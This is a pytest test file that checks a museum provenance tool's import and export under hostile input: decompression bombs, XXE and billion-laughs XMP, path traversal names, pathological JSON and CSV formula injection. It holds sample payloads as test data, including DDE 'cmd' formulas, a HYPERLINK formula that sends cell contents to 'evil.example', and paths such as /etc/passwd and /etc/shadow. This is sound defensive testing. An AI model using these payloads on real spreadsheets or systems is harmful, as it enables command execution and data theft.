"""Hostile and odd input: every real file in ../shared/data, decompression bombs, XML entity
tricks in XMP, and catalog files built to hurt (formula injection, path traversal, wrong
encodings, huge cells, a million empty rows, pathological JSON).

The rule under test (house rule 5): no crash, no hang, no traceback, a reason for every file
or row that is turned away, and nothing already stored lost.
"""

from __future__ import annotations

import csv
import json
import sys
from pathlib import Path

import pytest

from tests.conftest import DATA
from tests.reliability import hostile_files as hostile
from tests.reliability.conftest import (
    PASS,
    SOAK,
    assert_history_verifies,
    assert_library_consistent,
    assert_plain,
    credence,
    db_rows,
    db_scalar,
    run_cli,
    run_measured,
    sha_tree,
    soak,
    verify_with_cli,
)

MB = 1024 * 1024


def _traceback_free(text: str) -> bool:
    return "Traceback (most recent call last)" not in text


def _visible_files(root: Path) -> set[str]:
    """What `credence import ROOT` walks: every file with no hidden part below ROOT."""
    return {
        str(p)
        for p in root.rglob("*")
        if p.is_file() and not any(part.startswith(".") for part in p.relative_to(root).parts)
    }


def _import_json(done) -> dict:
    assert_plain(done)
    return json.loads(done.stdout)


# -- every real file -------------------------------------------------------------------------


def test_every_shared_data_file_is_imported_or_rejected_with_a_reason(tmp_path):
    if not DATA.is_dir():
        pytest.skip("../shared/data is not available")
    before = sha_tree(DATA)
    library = tmp_path / "lib"
    done = run_cli(library, "import", str(DATA), "--json", timeout=600)
    assert done.returncode == 1, done.stderr  # some files are not pictures: rejected
    report = _import_json(done)
    seen = [f["file"] for key in ("imported", "duplicates", "rejected") for f in report[key]]
    assert sorted(seen) == sorted(_visible_files(DATA)), "every file is accounted for once"
    for rejected in report["rejected"]:
        reason = rejected["reason"]
        assert reason and "Traceback" not in reason and "Error:" not in reason, rejected
    assert len(report["imported"]) > 150
    assert sha_tree(DATA) == before

    from provenance import open_library

    with open_library(library) as lib:
        lib.create_identity("Reliability Test Museum", PASS)
    out = tmp_path / "out"
    exported = run_cli(library, "export", "--all", "--out", str(out), "--json", timeout=600)
    assert exported.returncode in (0, 1), exported.stderr
    result = _import_json(exported)
    labels = {
        accession or f"#{item_id}"
        for item_id, accession in db_rows(library, "SELECT id, accession FROM items")
    }
    reported = [r["item"] for key in ("exported", "refused", "failed") for r in result[key]]
    assert set(reported) == labels, "every item is exported, refused or failed"
    for problem in result["refused"] + result["failed"]:
        assert problem["reason"] and "Traceback" not in problem["reason"], problem
    files = [Path(e["file"]) for e in result["exported"]]
    assert len(files) > 100
    untrusted = [r for r in verify_with_cli(library, files) if r["credentials"] != "trusted"]
    # Sources that carry someone else's broken credentials (the CAWG identity fixtures) are
    # exported with those credentials as the parent ingredient; c2pa then reports the parent's
    # failures, so such an export reads valid/invalid. Our own manifest must never be at fault.
    for result_row in untrusted:
        path = Path(result_row["file"])
        assert _own_failures(library, path) == [], (path.name, result_row["summary"])
        assert _source_state(library, path) in ("valid", "invalid"), path.name
    assert db_scalar(library, "SELECT count(*) FROM exports") == len(files)
    assert sha_tree(DATA) == before
    assert_library_consistent(library)


def _source_state(library: Path, exported: Path) -> str:
    """The credential state import found in the export's source file."""
    [(state,)] = db_rows(
        library,
        "SELECT a.credential_state FROM exports e JOIN assets a ON a.id = e.asset_id "
        "WHERE e.path = ?",
        str(exported),
    )
    return state


def _own_failures(library: Path, exported: Path) -> list[str]:
    """Validation failures c2pa attributes to the export's own (active) manifest."""
    import c2pa

    [(mime,)] = db_rows(
        library,
        "SELECT a.mime FROM exports e JOIN assets a ON a.id = e.asset_id WHERE e.path = ?",
        str(exported),
    )
    anchors = (library / "identity" / "ca.pem").read_text()
    settings = {
        "verify": {"remote_manifest_fetch": False, "ocsp_fetch": False},
        "trust": {"user_anchors": anchors},
    }
    with (
        c2pa.Context(settings=c2pa.Settings.from_dict(settings)) as context,
        open(exported, "rb") as stream,
        c2pa.Reader(mime, stream, context=context) as reader,
    ):
        store = json.loads(reader.json())
    active = store["active_manifest"]
    failures = store.get("validation_results", {}).get("activeManifest", {}).get("failure", [])
    return [f["code"] for f in failures if f"/c2pa/{active}" in f.get("url", "")]


def _catalog_files(limit_json: int | None) -> tuple[list[Path], list[Path]]:
    """(catalog files, one-record Tate JSON files); the quick run leaves out Tate's 69,201-row
    CSV and most of the 1,385 JSON records (the soak run takes them all)."""
    folder = DATA / "catalogs"
    if not folder.is_dir():
        pytest.skip("../shared/data/catalogs is not available")
    main = sorted(p for p in folder.glob("*/*") if p.suffix.lower() in (".csv", ".json"))
    if limit_json is not None:
        main = [p for p in main if p.name != "simplified_artwork_data.csv"]
    records = sorted((folder / "tate" / "artworks_json_sample").glob("*.json"))
    return main, records[:limit_json]


def _import_every_catalog(tmp_path: Path, limit_json: int | None) -> None:
    """Each catalog file imports, or is refused as a whole with a plain reason."""
    from provenance import CredenceError, open_library

    outcomes = {}
    main, records = _catalog_files(limit_json)
    # The one-record files go to a library of their own: each import indexes the library's
    # keys first, and 1,385 imports over a 77,000-item library would only measure that.
    for name, files in (("lib", main), ("records", records)):
        with open_library(tmp_path / name, actor="catalog-test") as lib:
            for path in files:
                try:
                    report = lib.import_catalog(path)
                except CredenceError as exc:
                    # Files without an accession column say which option to use; with it they
                    # load.
                    assert "--key" in str(exc), (path.name, str(exc))
                    key = {"artist_data.csv": "id"}.get(path.name, "acno")
                    report = lib.import_catalog(path, key=key)
                for problem in report.rejected:
                    assert problem.line > 0 and problem.reason, (path.name, problem)
                outcomes[path.name] = report.created + report.updated + report.unchanged
            assert lib.verify_history().ok
    assert outcomes["wcma-collection_2019-12-04.csv"] == 7057
    assert all(outcomes[p.name] == 1 for p in records)
    if limit_json is None:
        assert outcomes["simplified_artwork_data.csv"] == 69201
        assert len(records) == 1385


def test_every_shared_catalog_file_imports_or_is_refused_plainly(tmp_path):
    _import_every_catalog(tmp_path, limit_json=25)


@pytest.mark.slow
@soak
def test_every_shared_catalog_file_imports_or_is_refused_plainly_soak(tmp_path):
    _import_every_catalog(tmp_path, limit_json=None)


# -- decompression bombs ----------------------------------------------------------------------


def test_decompression_bombs_are_rejected_quickly_with_a_reason(tmp_path):
    folder = tmp_path / "bombs"
    folder.mkdir()
    bombs = {
        hostile.png_claiming(folder / "png-100000x100000.png", 100_000, 100_000): True,
        hostile.png_claiming(folder / "png-20000x20000.png", 20_000, 20_000): True,
        hostile.jpeg_claiming(folder / "jpeg-65000x65000.jpg", 65_000, 65_000): True,
        hostile.tiff_claiming(folder / "tiff-100000x100000.tif", 100_000, 100_000): True,
        hostile.gif_claiming(folder / "gif-65535x65535.gif", 65_535, 65_535): False,
    }
    run = run_measured(
        credence(tmp_path / "lib", "import", str(folder), "--json"), tmp_path / "logs", timeout=120
    )
    assert run.returncode == 1, run.stderr
    assert _traceback_free(run.stdout + run.stderr)
    report = json.loads(run.stdout)
    assert report["imported"] == [] and report["duplicates"] == []
    reasons = {Path(r["file"]).name: r["reason"] for r in report["rejected"]}
    assert set(reasons) == {p.name for p in bombs}
    for path, says_bomb in bombs.items():
        if says_bomb:
            assert "decompression bomb" in reasons[path.name], reasons[path.name]
        else:
            assert reasons[path.name], path.name
    assert run.peak_rss < 400 * MB, f"peak memory {run.peak_rss / MB:.0f} MB"


def _baseline_rss(tmp_path: Path) -> int:
    """Peak memory of importing one tiny picture: Python, Pillow, c2pa and SQLite loaded."""
    tiny = tmp_path / "tiny"
    tiny.mkdir()
    (tiny / "tiny.jpg").write_bytes(hostile.small_jpeg_bytes())
    run = run_measured(credence(tmp_path / "lib-tiny", "import", str(tiny)), tmp_path / "tiny-log")
    assert run.returncode == 0, run.stderr
    return run.peak_rss


def test_import_memory_for_a_picture_just_under_the_pixel_limit(tmp_path):
    """An 8000 x 8000 black PNG (about 200 KB) decodes to 192 MB; importing it may cost one
    decoded copy (plus a margin), not several: four import threads multiply whatever it costs."""
    folder = tmp_path / "in"
    folder.mkdir()
    bomb = hostile.png_zero_bomb(folder / "black.png", 8_000, 8_000)
    assert bomb.stat().st_size < 1 * MB
    decoded = 8_000 * 8_000 * 3
    baseline = _baseline_rss(tmp_path)
    run = run_measured(
        credence(tmp_path / "lib", "import", str(folder), "--json"), tmp_path / "logs", timeout=300
    )
    assert run.returncode == 0, run.stderr
    used = run.peak_rss - baseline
    assert used < 1.6 * decoded, (
        f"{used / MB:.0f} MB over baseline for a {decoded / MB:.0f} MB image"
    )


def test_export_memory_for_a_picture_just_under_the_pixel_limit(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    hostile.png_zero_bomb(folder / "black.png", 8_000, 8_000)
    decoded = 8_000 * 8_000 * 3
    library = tmp_path / "lib"
    assert run_cli(library, "import", str(folder)).returncode == 0
    from provenance import open_library

    with open_library(library) as lib:
        lib.create_identity("Reliability Test Museum", PASS)
    baseline = _baseline_rss(tmp_path)
    out = tmp_path / "out"
    argv = credence(library, "export", "--all", "--out", str(out), "--jobs", "1", "--json")
    run = run_measured(argv, tmp_path / "logs", timeout=300)
    assert run.returncode == 0, run.stderr
    assert len(json.loads(run.stdout)["exported"]) == 1
    used = run.peak_rss - baseline
    assert used < 1.5 * decoded, (
        f"{used / MB:.0f} MB over baseline for a {decoded / MB:.0f} MB image"
    )
    assert_history_verifies(library)


# -- XML entity tricks in XMP -----------------------------------------------------------------


def test_xmp_entity_expansion_and_external_entities_neither_blow_up_nor_leak(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    hostile.jpeg_with_xmp(folder / "billion-laughs.jpg", hostile.billion_laughs_xmp())
    hostile.jpeg_with_xmp(folder / "quadratic-blowup.jpg", hostile.quadratic_blowup_xmp())
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-XXE-CANARY\n")
    hostile.jpeg_with_xmp(folder / "xxe.jpg", hostile.external_entity_xmp(secret.as_uri()))
    originals = sha_tree(folder)
    library = tmp_path / "lib"
    run = run_measured(credence(library, "import", str(folder), "--json"), tmp_path / "import")
    assert run.returncode == 0, run.stderr
    assert len(json.loads(run.stdout)["imported"]) == 3
    assert run.peak_rss < 400 * MB, f"import peak {run.peak_rss / MB:.0f} MB"

    from provenance import open_library

    with open_library(library) as lib:
        lib.create_identity("Reliability Test Museum", PASS)
    out = tmp_path / "out"
    argv = credence(library, "export", "--all", "--out", str(out), "--jobs", "1", "--json")
    run = run_measured(argv, tmp_path / "export", timeout=120)
    assert run.returncode in (0, 1), run.stderr
    assert _traceback_free(run.stdout + run.stderr)
    assert run.peak_rss < 400 * MB, f"export peak {run.peak_rss / MB:.0f} MB"
    report = json.loads(run.stdout)
    assert len(report["exported"]) + len(report["failed"]) == 3
    for failed in report["failed"]:
        assert "XMP" in failed["reason"], failed  # refused as malformed XMP, by name
    for exported in report["exported"]:
        data = Path(exported["file"]).read_bytes()
        assert b"TOP-SECRET-XXE-CANARY" not in data
        assert b"lol" * 1000 not in data and b"A" * 100_000 not in data
    assert sha_tree(folder) == originals
    assert_history_verifies(library)


# -- catalog files built to hurt ----------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=already quoted",
    "=1+1",
]


def _write_csv(path: Path, header: list[str], rows: list[list[str]], encoding="utf-8") -> Path:
    with open(path, "w", encoding=encoding, newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_formula_injection_is_stored_as_text_and_guarded_on_export(tmp_path):
    library = tmp_path / "lib"
    rows = [[f"F{i}", value, value, "plain"] for i, value in enumerate(FORMULAS)]
    source = _write_csv(tmp_path / "formulas.csv", ["accession", "title", "notes", "maker"], rows)
    done = run_cli(library, "catalog", "import", str(source), "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["created"] == len(FORMULAS)
    stored = dict(db_rows(library, "SELECT accession, title FROM items"))
    for i, value in enumerate(FORMULAS):
        # Kept as the text it was, trimmed; a cell already guarded with a quote (as Credence's
        # own exports are) is read back without that quote, by design of the round trip.
        expected = value.strip()
        expected = expected[1:] if expected.startswith("'=") else expected
        assert stored[f"F{i}"] == expected, "the cell is kept as the text it was"

    exported = tmp_path / "catalog.csv"
    done = run_cli(library, "catalog", "export", str(exported))
    assert done.returncode == 0, done.stderr
    with open(exported, encoding="utf-8", newline="") as handle:
        cells = [cell for row in list(csv.reader(handle))[1:] for cell in row]
    dangerous = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == [], "every cell a spreadsheet would run is prefixed with a quote"
    for value in FORMULAS:
        guarded = value.strip() if value.startswith("'") else "'" + value.strip()
        assert guarded in cells, value

    again = run_cli(library, "catalog", "import", str(exported), "--json")
    assert again.returncode == 0, again.stderr
    report = json.loads(again.stdout)
    assert (report["created"], report["updated"]) == (0, 0), "the round trip changes nothing"
    assert report["unchanged"] == len(FORMULAS)


_AUDIT_RUNNER = """
import json, os, sys
opened = []
def hook(event, args):
    if event in ("open", "os.rename", "os.replace", "os.remove", "os.mkdir", "shutil.copyfile"):
        target = args[0]
        if isinstance(target, (str, bytes, os.PathLike)):
            opened.append((event, os.fsdecode(target)))
sys.addaudithook(hook)
from desktop.cli import main
status = main(sys.argv[2:])
with open(sys.argv[1], "w") as handle:
    json.dump(opened, handle)
sys.exit(status)
"""


def _run_audited(tmp_path: Path, library: Path, *args: str, name: str):
    """Run a command in-process under an audit hook that records every file it opens."""
    record = tmp_path / f"{name}-opened.json"
    argv = [sys.executable, "-c", _AUDIT_RUNNER, str(record), "--library", str(library), *args]
    import subprocess

    from tests.conftest import ROOT
    from tests.reliability.conftest import cli_env

    done = subprocess.run(
        argv, cwd=ROOT, env=cli_env(), capture_output=True, text=True, timeout=120
    )
    return done, json.loads(record.read_text())


def test_path_traversal_in_file_name_columns_is_stored_as_text_only(tmp_path):
    work = tmp_path / "deep" / "a" / "b"
    work.mkdir(parents=True)
    canary = tmp_path / "deep" / "canary.txt"
    canary.write_text("do not touch\n")
    victim = tmp_path / "deep" / "must-not-exist.txt"
    names = [
        "../../canary.txt",
        "../../must-not-exist.txt",
        str(canary),
        "/etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "file:///etc/shadow",
    ]
    rows = [[f"T{i}", f"Object {i}", name, name, name] for i, name in enumerate(names)]
    source = _write_csv(
        work / "objects.csv", ["accession", "title", "filename", "image", "path"], rows
    )
    library = tmp_path / "lib"
    done, opened = _run_audited(
        tmp_path, library, "catalog", "import", str(source), "--json", name="import"
    )
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["created"] == len(names)
    touched = {Path(path).resolve() for _event, path in opened if path}
    for forbidden in (canary, victim, Path("/etc/passwd"), Path("/etc/shadow")):
        assert forbidden.resolve() not in touched, f"{forbidden} was opened"
    assert canary.read_text() == "do not touch\n" and not victim.exists()
    extras = [json.loads(e) for (e,) in db_rows(library, "SELECT extra FROM items ORDER BY id")]
    assert [e["filename"] for e in extras] == names  # kept as the text it was

    # Exporting these items (no pictures) and the catalog opens nothing they name either.
    from provenance import open_library

    with open_library(library) as lib:
        lib.create_identity("Reliability Test Museum", PASS)
    out = tmp_path / "out"
    done, opened = _run_audited(
        tmp_path, library, "export", "--all", "--out", str(out), "--jobs", "1", name="export"
    )
    assert done.returncode == 1 and "has no image to export" in done.stdout, done.stdout
    done2, opened2 = _run_audited(
        tmp_path, library, "catalog", "export", str(tmp_path / "cat.csv"), name="catalog-export"
    )
    assert done2.returncode == 0, done2.stderr
    touched = {Path(path).resolve() for _event, path in opened + opened2 if path}
    for forbidden in (canary, victim, Path("/etc/passwd"), Path("/etc/shadow")):
        assert forbidden.resolve() not in touched, f"{forbidden} was opened"
    assert canary.read_text() == "do not touch\n" and not victim.exists()


def test_path_traversal_in_accession_numbers_stays_inside_the_export_folder(tmp_path):
    from provenance import open_library

    masters = tmp_path / "masters"
    masters.mkdir()
    (masters / "scan.jpg").write_bytes(hostile.small_jpeg_bytes((80, 60)))
    (masters / "scan2.jpg").write_bytes(hostile.small_jpeg_bytes((60, 80)))
    library = tmp_path / "lib"
    with open_library(library, actor="setup") as lib:
        lib.create_identity("Reliability Test Museum", PASS)
        lib.create_item({"accession": "../../../escaped", "title": "Traversal"})
        lib.create_item({"accession": "/tmp/absolute-escape", "title": "Absolute"})
        lib.import_files([masters / "scan.jpg"], item="../../../escaped")
        lib.import_files([masters / "scan2.jpg"], item="/tmp/absolute-escape")
    out = tmp_path / "exports" / "here"
    before = sha_tree(tmp_path)
    done = run_cli(
        library, "export", "--all", "--out", str(out), "--naming", "{accession}.{ext}", "--json"
    )
    assert done.returncode == 0, done.stderr
    written = [Path(e["file"]) for e in json.loads(done.stdout)["exported"]]
    assert len(written) == 2
    for path in written:
        assert path.parent == out.resolve(), path
    new = set(sha_tree(tmp_path)) - set(before)
    assert all(name.startswith("exports/here/") or name.startswith("lib/") for name in new), new
    assert not Path("/tmp/absolute-escape.jpg").exists()


CP1252_LINE = 601


def _cp1252_catalog(path: Path, rows: int = 800) -> Path:
    lines = ["accession,title,maker"]
    lines += [f"C{i},Title number {i} of a long series of rows,Maker {i}" for i in range(1, rows)]
    lines[CP1252_LINE - 1] = "C600,Café au lait,Renée"  # line 601 in a text editor
    path.write_bytes(("\r\n".join(lines) + "\r\n").encode("cp1252"))
    return path


def test_cp1252_catalog_is_refused_plainly_and_stores_nothing(tmp_path):
    library = tmp_path / "lib"
    for source in (
        _cp1252_catalog(tmp_path / "big-cp1252.csv"),
        _write_csv(
            tmp_path / "small-cp1252.csv", ["accession", "title"], [["D1", "Café"]], "cp1252"
        ),
    ):
        done = run_cli(library, "catalog", "import", str(source))
        assert done.returncode == 1, done.stdout
        assert_plain(done)
        message = done.stderr.strip()
        assert message.startswith(f"credence: {source.name}: ") and "\n" not in message, message
        assert "UTF-8" in message or "utf-8" in message, message
    assert db_scalar(library, "SELECT count(*) FROM items") == 0


@pytest.mark.parametrize("size", ["big", "small"])
def test_cp1252_error_names_the_line_that_holds_the_bad_byte(tmp_path, size):
    library = tmp_path / "lib"
    if size == "big":
        source, line = _cp1252_catalog(tmp_path / "big-cp1252.csv"), CP1252_LINE
    else:
        rows = [["D1", "plain"], ["D2", "Café"]]
        source, line = _write_csv(tmp_path / "small.csv", ["accession", "title"], rows, "cp1252"), 3
    done = run_cli(library, "catalog", "import", str(source))
    assert done.returncode == 1
    assert f"line {line} " in done.stderr, done.stderr


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-be-bom"])
def test_utf16_catalog_with_a_byte_order_mark_is_read_correctly(tmp_path, encoding):
    header = ["accession", "title", "maker"]
    rows = [["U1", "Café 日本 — «quoted»", "Репин"], ["U2", "plain", "𝔘nicode"]]
    text = "\r\n".join(",".join(r) for r in [header, *rows]) + "\r\n"
    data = text.encode("utf-16") if encoding == "utf-16" else b"\xfe\xff" + text.encode("utf-16-be")
    source = tmp_path / f"{encoding}.csv"
    source.write_bytes(data)
    library = tmp_path / "lib"
    done = run_cli(library, "catalog", "import", str(source), "--json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["created"] == 2
    stored = db_rows(library, "SELECT accession, title, maker FROM items ORDER BY accession")
    assert stored == [tuple(r) for r in rows]


def test_a_ten_thousand_character_cell_survives_the_round_trip(tmp_path):
    long_text = ("Provenance: " + "ownership changed hands; " * 500)[:10_000]
    assert len(long_text) == 10_000
    huge = "x" * 1_000_001  # over the importer's per-cell limit: that row alone is refused
    rows = [["L1", "Long", long_text], ["L2", "Too long", huge], ["L3", "After", "short"]]
    source = _write_csv(tmp_path / "long.csv", ["accession", "title", "description"], rows)
    library = tmp_path / "lib"
    done = run_cli(library, "catalog", "import", str(source), "--json")
    assert done.returncode == 1, done.stderr
    report = json.loads(done.stdout)
    assert report["created"] == 2
    [problem] = report["rejected"]
    assert problem["line"] == 3 and problem["reason"], problem
    [(stored,)] = db_rows(library, "SELECT description FROM items WHERE accession = 'L1'")
    assert stored == long_text.strip()
    exported = tmp_path / "catalog.csv"
    assert run_cli(library, "catalog", "export", str(exported)).returncode == 0
    with open(exported, encoding="utf-8", newline="") as handle:
        cells = [c for row in csv.reader(handle) for c in row]
    assert long_text.strip() in cells
    again = run_cli(library, "catalog", "import", str(exported), "--json")
    assert json.loads(again.stdout)["unchanged"] == 2


@pytest.mark.parametrize(
    ("body", "created"),
    [(",,\n" * 1_000_000 + "E1,the only row,Maker\n", 1), ("\n" * 1_000_000, 0)],
    ids=["a-million-rows-of-commas", "a-million-blank-lines"],
)
def test_a_million_empty_rows_finish_and_report_nothing(tmp_path, body, created):
    source = tmp_path / "empty.csv"
    source.write_text("accession,title,maker\n" + body, encoding="utf-8")
    library = tmp_path / "lib"
    done = run_cli(library, "catalog", "import", str(source), "--json", timeout=120)
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert (report["created"], report["rejected"]) == (created, [])
    assert db_scalar(library, "SELECT count(*) FROM items") == created
    assert db_scalar(library, "SELECT count(*) FROM history") == created


@pytest.mark.parametrize("kind", ["deeply-nested", "huge-integer"])
def test_pathological_json_catalogs_are_refused_plainly(tmp_path, kind):
    source = tmp_path / f"{kind}.json"
    if kind == "deeply-nested":
        source.write_text('[{"accession": "N1", "title": ' + "[" * 100_000 + "]" * 100_000 + "}]")
    else:
        source.write_text('[{"accession": "N1", "title": ' + "9" * 5000 + "}]")
    done = run_cli(tmp_path / "lib", "catalog", "import", str(source))
    assert done.returncode == 1
    assert_plain(done)
    assert "unexpected error" not in done.stderr, done.stderr
    assert done.stderr.startswith(f"credence: {source.name}: "), done.stderr


def test_an_unclosed_quote_does_not_silently_swallow_rows(tmp_path):
    source = tmp_path / "unclosed.csv"
    source.write_text('accession,title\nQ1,"never closed\nQ2,second\nQ3,third\n', encoding="utf-8")
    done = run_cli(tmp_path / "lib", "catalog", "import", str(source), "--json")
    report = json.loads(done.stdout)
    assert report["created"] == 3 or report["rejected"], report


def test_a_repeated_column_name_is_not_silently_dropped(tmp_path):
    source = tmp_path / "twice.csv"
    source.write_text("accession,title,title\nR1,first title,second title\n", encoding="utf-8")
    library = tmp_path / "lib"
    done = run_cli(library, "catalog", "import", str(source), "--json")
    stored = json.dumps(db_rows(library, "SELECT title, extra FROM items"))
    assert done.returncode != 0 or ("first title" in stored and "second title" in stored), stored


def test_export_workers_keep_warnings_off_the_terminal(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    hostile.palette_png_with_byte_transparency(folder / "palette-a.png")
    hostile.palette_png_with_byte_transparency(folder / "palette-b.png")
    with open(folder / "palette-b.png", "ab") as handle:
        handle.write(b"\0")  # different bytes, same picture: two items
    library = tmp_path / "lib"
    assert run_cli(library, "import", str(folder)).returncode == 0
    from provenance import open_library

    with open_library(library) as lib:
        lib.create_identity("Reliability Test Museum", PASS)
    done = run_cli(library, "export", "--all", "--out", str(tmp_path / "out"), "--jobs", "2")
    assert done.returncode == 0, done.stderr
    assert done.stderr == "", done.stderr


@pytest.mark.skipif(not SOAK, reason="soak run only")
@pytest.mark.slow
def test_many_copies_of_every_hostile_file_in_one_import_soak(tmp_path):
    folder = tmp_path / "in"
    folder.mkdir()
    for n in range(20):
        hostile.png_claiming(folder / f"claim-{n}.png", 100_000 + n, 100_000)
        hostile.jpeg_claiming(folder / f"claim-{n}.jpg", 65_000 - n, 65_000)
        hostile.jpeg_with_xmp(folder / f"laughs-{n}.jpg", hostile.billion_laughs_xmp() + b" " * n)
    run = run_measured(credence(tmp_path / "lib", "import", str(folder), "--json"), tmp_path / "l")
    assert run.returncode == 1 and _traceback_free(run.stderr)
    report = json.loads(run.stdout)
    assert len(report["rejected"]) == 40 and len(report["imported"]) == 20
    assert run.peak_rss < 600 * MB


def test_a_source_with_invalid_credentials_is_not_exported_into_an_invalid_file(tmp_path):
    from provenance import open_library

    source = next((DATA / "c2pa-fixtures" / "cawg_identity").rglob("invalid_vc.jpg"), None)
    if source is None:
        pytest.skip("cawg_identity/invalid_vc.jpg is not available")
    library = tmp_path / "lib"
    with open_library(library, actor="setup") as lib:
        lib.create_identity("Reliability Test Museum", PASS)
        [imported] = lib.import_files([source]).imported
        assert imported.credentials["state"] == "invalid"
        report = lib.export(None, tmp_path / "out", passphrase=PASS, jobs=1)
        if report.refused or report.failed:
            return  # refusing (with a reason) is a fine answer
        [exported] = report.exported
        result = lib.verify_file(exported.file)
    assert result["credentials"] == "trusted", result["summary"]
    assert result["ingredient_problems"], "the parent's problem is shown under the parent"
